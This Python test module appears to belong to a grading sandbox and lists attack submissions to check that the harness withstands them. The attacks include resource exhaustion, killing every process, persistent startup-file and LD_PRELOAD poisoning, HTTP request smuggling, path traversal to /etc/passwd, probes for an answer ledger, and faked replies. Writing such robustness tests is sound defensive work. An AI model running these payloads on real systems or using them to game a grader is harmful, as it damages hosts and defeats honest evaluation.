"""Attacks on time, memory, processes, disk and the next submission, from a called function."""

from __future__ import annotations

from tests.attacks.attack import Attack

__all__ = ["ATTACKS", "SERVED"]

RESOURCES = {
    "an endless loop": "    while True: pass",
    "a loop that swallows interrupts": """
    for n in range(1, 32): hidden(lambda: signal.signal(n, signal.SIG_IGN))
    while True:
        try: time.sleep(9)
        except BaseException: pass""",
    "a call into C that never returns": "    return (10 ** 9) ** (10 ** 9) % 7",
    "a catastrophic regular expression": "    return bool(re.match('(a+)+$', 'a' * 60 + 'b'))",
    "os._exit": "    os._exit(0)",
    "a killed process": "    os.kill(os.getpid(), signal.SIGKILL)",
    "a stopped process": "    os.kill(os.getpid(), signal.SIGSTOP)",
    "a crash in C": "    ctypes.string_at(0)",
    "recursion without end": "    sys.setrecursionlimit(10 ** 9)\n    return total(values)",
    "memory, page by page": "    kept = []\n    while True: kept.append(b'x' * (32 << 20))",
    "memory at once": "    return len(bytearray(1 << 40))",
    "memory in hidden children": """
    libc.prctl(4, 0, 0, 0, 0)
    for _ in range(3):
        if os.fork() == 0:
            kept = []
            while True: kept.append(b'x' * (32 << 20))
    time.sleep(60)""",
    "threads without end": """
    made = []
    try:
        while len(made) < 5000:
            t = threading.Thread(target=time.sleep, args=(30,), daemon=True); t.start()
            made.append(t)
    finally: os._exit(1)""",
    "a full disk": """
    for folder in ("/tmp", "/dev/shm", os.environ["HOME"]):
        for n in range(20):
            path = f"{folder}/<MARKER>-{n}"
            try:
                with open(path, "wb") as file:
                    while True: file.write(bytes(1 << 20))
            except OSError: pass
        for n in range(20): hidden(lambda: os.unlink(f"{folder}/<MARKER>-{n}"))
    return 0.0""",
    "files without end": """
    os.makedirs("/tmp/<MARKER>-many", exist_ok=True)
    try:
        for n in range(10 ** 6): open(f"/tmp/<MARKER>-many/{n}", "w").close()
    except OSError: pass
    import shutil
    shutil.rmtree("/tmp/<MARKER>-many")
    return 0.0""",
    "descriptors without end": "    kept = []\n    while True: kept.append(os.dup(0))",
    "1 GB of output": """
    for _ in range(1024): os.write(1, bytes(1 << 20)); sys.stdout.write("x")
    return 0.0""",
    "20 MB as an answer": "    return 'x' * 20_000_000",
    "two million numbers as an answer": "    return [0] * 2_000_000",
    "the parent is killed": "    os.kill(os.getppid(), signal.SIGKILL)\n    return 0.0",
    "the first process is killed": "    for n in range(1, 32): hidden(lambda: os.kill(1, n))\n"
    "    return 0.0",
    "everything is killed": "    os.kill(-1, signal.SIGKILL)\n    return 0.0",
    "the parent is stopped": "    os.kill(os.getppid(), signal.SIGSTOP)\n    return 0.0",
}
LASTING = {
    "a daemon": """
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, ["<MARKER>", "-c", "import time; time.sleep(600)"])
        os._exit(0)
    return 0.0""",
    "a daemon that ignores every signal": """
    import subprocess
    code = "import signal, time\\nfor n in {*range(1, 32)} - {9, 19}:\\n"
    code += "    signal.signal(n, signal.SIG_IGN)\\ntime.sleep(600)"
    subprocess.Popen([sys.executable, "-c", code, "<MARKER>"], start_new_session=True,
                     stdin=-3, stdout=-3, stderr=-3)
    return 0.0""",
    "a process for the exit": """
    import atexit, subprocess
    atexit.register(subprocess.Popen, ["sleep", "600", "<MARKER>"])
    threading.Thread(target=subprocess.run, args=(["tail", "-f", "/dev/null", "<MARKER>"],)).start()
    return 0.0""",
    "start-up files for the next Python": """
    import site
    home = os.environ["HOME"]
    for path in (f"{home}/.ipython/profile_default/startup/0.py",
                 f"{site.USER_SITE}/usercustomize.py",
                 f"{site.USER_SITE}/<MARKER>.pth", f"{home}/.pythonrc", "/tmp/sitecustomize.py",
                 f"{home}/.jupyter/jupyter_config.py", f"{home}/.bashrc"):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("import builtins; builtins.sum = lambda *a: 'poisoned'")
    os.environ.update(PYTHONSTARTUP=f"{home}/.pythonrc", PYTHONPATH="/tmp", LD_PRELOAD="/tmp/x.so",
                      LD_LIBRARY_PATH="/tmp", PYTHONHOME="/tmp", IPYTHONDIR="/tmp")
    return 0.0""",
}

_PORT = """
def ports():
    rows = [line.split() for line in open("/proc/net/tcp").read().splitlines()[1:]]
    return [int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"]
def connected(port):
    return socket.create_connection(("127.0.0.1", port), timeout=1)
kept = []
"""
_HONEST = """
def ask_all(base_url, prompts):
    import urllib.request
    replies = []
    for prompt in prompts:
        body = {"model": "practice-small", "messages": [{"role": "user", "content": prompt}]}
        request = urllib.request.Request(f"{base_url}/chat/completions", json.dumps(body).encode(),
            {"Content-Type": "application/json", "Authorization": "Bearer practice"})
        with urllib.request.urlopen(request, timeout=5) as reply:
            replies.append(json.load(reply)["choices"][0]["message"]["content"])
    return replies
"""
_BEFORE = _HONEST.replace(
    "    import urllib.request\n", "    import urllib.request\n    harm(base_url)\n"
)
# name: (code, what `ask_all` earns)
PROVIDER = {
    "an honest client": (_HONEST, 2.0),
    "replies nobody gave": (
        "def ask_all(base_url, prompts): return ['Hello.' for _ in prompts]",
        0.0,
    ),
    "the ledger, asked for": (
        """
def ask_all(base_url, prompts):
    import urllib.request
    get = lambda p: urllib.request.urlopen(base_url.replace("v1", p), timeout=5).read().decode()
    places = ("ledger", "practice/ledger", "practice/truth", "__debug__", "../../etc/passwd")
    return [str(hidden(lambda: get(p))) for p in places]""",
        0.0,
    ),
    "connections while nothing is served": (
        """
def harm(base_url): pass
for port in ports(): kept += [connected(port) for _ in range(5)]
for s in kept: s.sendall(b"garbage\\r\\n\\r\\n")"""
        + _BEFORE,
        2.0,
    ),
    "garbage beside honest calls": (
        """
def harm(base_url):
    port = int(base_url.split(":")[2].split("/")[0])
    for body in (b"\\x16\\x03\\x01" + bytes(200), b"GET " + b"a" * 100_000, b"\\r\\n" * 5000,
                 b"POST /v1/models HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: -5\\r\\n\\r\\n",
                 b"GET / HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nZZZ\\r\\n"):
        s = connected(port); hidden(lambda: s.sendall(body)); kept.append(s)"""
        + _BEFORE,
        2.0,
    ),
    "half requests that never end": (
        """
def harm(base_url):
    port = int(base_url.split(":")[2].split("/")[0])
    for _ in range(20):
        s = connected(port); kept.append(s)
        s.sendall(b"POST /v1/chat/completions HTTP/1.1\\r\\nHost: a\\r\\n"
                  b"Content-Length: 99999\\r\\n\\r\\n{")
"""
        + _BEFORE,
        0.0,  # each arrived at the provider, and so counts as a call
    ),
    "two lengths in one request": (
        """
def harm(base_url):
    port = int(base_url.split(":")[2].split("/")[0])
    s = connected(port); kept.append(s)
    inner = b"GET /v1/models HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n"
    s.sendall(b"POST /v1/models HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: 0\\r\\nContent-Length: "
              + str(len(inner)).encode() + b"\\r\\n\\r\\n" + inner)"""
        + _BEFORE,
        2.0,
    ),
}


def _all(kind: str, cases: dict[str, str]) -> list[Attack]:
    return [
        Attack(name, kind, "def total(values):\n" + body, same_reason=False)
        for name, body in cases.items()
    ]


ATTACKS = [*_all("resources", RESOURCES), *_all("lasting", LASTING)]
SERVED = [
    Attack(name, "provider", _PORT + code, task="ask_all", mark=mark, same_reason=False)
    for name, (code, mark) in PROVIDER.items()
]
